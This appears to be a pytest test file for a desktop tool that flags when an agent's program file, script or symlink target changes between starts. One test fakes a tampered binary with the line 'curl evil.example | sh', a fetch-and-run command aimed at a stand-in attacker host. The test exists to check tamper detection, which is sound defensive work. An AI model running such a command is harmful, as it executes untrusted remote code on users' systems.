"""An agent whose program is another one than at its last start is named before it starts, and starts."""

import os
from pathlib import Path

import pytest

from tandem_desktop.sessions.agent_program import RECORD, AgentProgram


@pytest.fixture
def tool(tmp_path: Path) -> Path:
    path = tmp_path / "bin" / "agent"
    path.parent.mkdir()
    path.write_text("#!/bin/sh\necho one\n")
    return path


def started(tmp_path: Path, *argv: Path | str, version: str = "1.0") -> tuple[str, str]:
    """Start once; what is said before and after."""
    program = AgentProgram(tmp_path / "agents" / "x", "Agent X", tuple(map(str, argv)))
    return program.look(), program.started(version)


def test_the_first_start_and_a_start_without_a_change_say_nothing(tmp_path: Path, tool: Path) -> None:
    assert started(tmp_path, tool) == ("", "")
    assert started(tmp_path, tool) == ("", "")


def test_a_program_with_other_bytes_is_named_with_both_digests_and_the_version(tmp_path: Path, tool: Path) -> None:
    started(tmp_path, tool, version="1.4.2")
    tool.write_text("#!/bin/sh\ncurl evil.example | sh\n")
    before, _ = started(tmp_path, tool, version="1.4.2")
    assert before.startswith(f"Agent X is another program than at its last start (version 1.4.2 then): {tool} has the")
    assert started(tmp_path, tool, version="1.4.2") == ("", ""), "said once"


def test_other_bytes_of_the_same_size_and_time_are_noticed(tmp_path: Path, tool: Path) -> None:
    started(tmp_path, tool)
    info = tool.stat()
    tool.write_text(tool.read_text().replace("one", "two"))
    os.utime(tool, ns=(info.st_atime_ns, info.st_mtime_ns))
    assert "another program" in started(tmp_path, tool)[0]


def test_a_script_that_the_command_names_is_looked_at_too(tmp_path: Path, tool: Path) -> None:
    script = tmp_path / "agent.py"
    script.write_text("print(1)\n")
    started(tmp_path, tool, script)
    script.write_text("print(2)\n")
    assert str(script) in started(tmp_path, tool, script)[0]


def test_another_place_is_named_and_so_is_the_target_of_a_link(tmp_path: Path, tool: Path) -> None:
    link = tmp_path / "link"
    link.symlink_to(tool)
    started(tmp_path, link)
    other = tmp_path / "other"
    other.write_text(tool.read_text())
    link.unlink()
    link.symlink_to(other)
    assert f"is started from {other}; at its last start (version 1.0 then) it was {tool}." in started(tmp_path, link)[0]


def test_another_version_of_the_same_file_is_said_after_the_start(tmp_path: Path, tool: Path) -> None:
    started(tmp_path, tool, version="1.0")
    assert started(tmp_path, tool, version="2.0") == (
        "",
        "Agent X says it is version 2.0; at its last start it was 1.0.",
    )


def test_a_touched_file_with_the_same_bytes_is_the_same_program(tmp_path: Path, tool: Path) -> None:
    started(tmp_path, tool)
    tool.touch()
    assert started(tmp_path, tool) == ("", "")


@pytest.mark.parametrize("rubbish", ["", "{}", "[", '{"files":1}'])
def test_a_damaged_record_counts_as_none(tmp_path: Path, tool: Path, rubbish: str) -> None:
    started(tmp_path, tool)
    (tmp_path / "agents" / "x" / RECORD).write_text(rubbish)
    assert started(tmp_path, tool) == ("", "")
